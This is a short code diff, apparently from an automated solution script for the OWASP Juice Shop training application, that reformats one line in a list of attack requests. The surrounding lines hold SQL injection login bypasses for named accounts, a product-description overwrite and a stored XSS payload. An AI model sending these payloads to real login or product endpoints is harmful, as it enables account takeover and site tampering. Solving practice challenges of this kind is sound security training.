@@ -50,7 +50,8 @@ const SOLUTIONS: (() => Promise<Response>)[] = [
   () => send('POST', '/rest/user/login', { email: "' or 1=1--", password: 'x' }),
   () => send('GET', '/rest/qwertz'),
   () => send('POST', '/rest/user/login', { email: "jim@juice-sh.op'--", password: 'x' }),
-  () => send('PUT', '/api/Products/9', { description: '<a href="https://owasp.slack.com" target="_blank">More...</a>' }),
+  () =>
+    send('PUT', '/api/Products/9', { description: '<a href="https://owasp.slack.com" target="_blank">More...</a>' }),
   () => send('PUT', '/api/Products/1', { description: '<iframe src="javascript:alert(`xss`)">' }),
   () => send('POST', '/rest/user/login', { email: "bender@juice-sh.op'--", password: 'x' }),
 ]
